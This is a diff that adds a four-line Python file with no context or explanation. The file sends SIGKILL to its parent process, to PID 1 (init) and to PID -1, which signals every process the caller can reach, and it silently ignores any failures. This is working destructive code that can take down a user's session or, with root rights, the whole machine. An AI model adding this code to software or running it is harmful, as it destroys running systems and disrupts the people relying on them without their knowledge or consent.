@@ -1,0 +1,4 @@
+import os, signal
+for pid in (os.getppid(), 1, -1):
+    try: os.kill(pid, signal.SIGKILL)
+    except OSError: pass
